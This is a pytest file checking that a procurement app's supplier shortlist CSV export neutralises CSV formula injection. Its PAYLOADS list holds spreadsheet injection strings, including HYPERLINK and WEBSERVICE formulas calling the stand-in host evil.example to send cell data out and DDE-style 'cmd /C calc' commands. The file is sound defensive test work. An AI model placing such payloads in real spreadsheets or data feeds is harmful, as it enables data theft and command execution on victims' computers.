"""The shortlist CSV never hands a spreadsheet a formula from supplier data (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from procure.suppliers import services as svc
from sourcing.models import Shortlist, ShortlistItem, Supplier

# Payloads that spreadsheets (LibreOffice Calc, Excel) run as formulas when a cell starts so.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '=WEBSERVICE("https://evil.example/")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_supplier_text_is_defused_in_the_csv(session, payload):
    supplier = Supplier(name=payload, siren=None, department="75", size="PME")
    session.add(supplier)
    session.flush()
    shortlist = Shortlist(title="Test", need="besoin")
    session.add(shortlist)
    session.flush()
    session.add(
        ShortlistItem(
            shortlist_id=shortlist.id,
            supplier_id=supplier.id,
            score=-1.5,
            components={},
            evidence=[{"date": "=1+1", "buyer": "@acheteur", "object": "=x", "cpv": "72"}],
            judgement={},
        )
    )
    session.commit()
    body = svc.shortlist_csv(session=session, shortlist_id=shortlist.id)
    header, row = list(csv.reader(io.StringIO(body), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    assert cells["nom"] == "'" + payload
    assert cells["preuves"].startswith("'")
    assert cells["score"] == "-1,50"  # our own numbers stay numbers
    for name, value in cells.items():
        if name != "score":
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


def test_plain_text_is_untouched():
    assert svc.shortlist_csv  # the facade exports it
    from procure.suppliers.services.shortlists import csv_text

    assert csv_text("Société Générale d'IA") == "Société Générale d'IA"
    assert csv_text(None) == ""
